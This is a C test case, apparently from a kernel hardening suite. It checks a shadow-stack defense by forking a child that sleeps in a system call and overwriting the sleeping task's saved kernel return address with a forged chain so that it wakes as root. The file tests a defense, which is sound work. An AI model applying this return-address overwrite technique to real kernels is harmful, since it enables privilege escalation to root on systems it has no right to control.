// SPDX-License-Identifier: GPL-2.0-only
#include "forged_chain.h"

ATTACK("shadow_stack", "sleeping_call", "shadow_stack: saved state of a sleeping task changed",
       "The program lets a child sleep in a system call, and replaces the last return "
       "address of the sleeping call chain, so that the call ends by making the child "
       "root.",
       "The call chain of a task that does not run is copied to sealed memory and compared "
       "before it goes on.",
       "The child wakes up, and is root.");

static bool control(void)
{
	return is_ordinary();
}

static void sleep_until_root(void)
{
	(void)own_cpu(1);
	do
		sleep_milliseconds(1000);
	while (call0(__NR_geteuid) != 0);
	leave(reads_prize() ? 1 : 0);
}

/*
 * The distance between chain and end is drawn for each call: one that leaves room. The return
 * address comes last, and only when it is still the same sleep.
 */
static bool replace_return(uint64_t child, uint64_t top)
{
	const uint64_t first = first_frame(top), slot = outermost_return(child, top);
	uint64_t words[CHAIN_SIZE / 8];

	if (!slot || slot + CHAIN_SIZE > top)
		return false;
	make_chain(words, slot, child, top);
	for (unsigned int i = CHAIN_SIZE / 8 - 1; i > 0; i--)
		poke(slot + 8 * i, words[i]);
	if (!is_asleep(child) || first_frame(top) != first)
		return false;
	poke(slot, words[0]);
	return true;
}

static bool fire(void)
{
	const uint64_t task = own_task();
	const long id = fork_program();
	uint64_t child, top;
	int status;

	if (id == 0)
		sleep_until_root();
	child = child_task(task, id);
	top = peek(child + member("task.stack_top"));
	await(replace_return(child, top));
	status = wait_program(id);
	if ((status & 0x7f) == SIGKILL)
		call2(__NR_kill, call0(__NR_getpid), SIGKILL);
	return status >> 8 == 1;
}

static void victim(void)
{
	victim_waits();
}
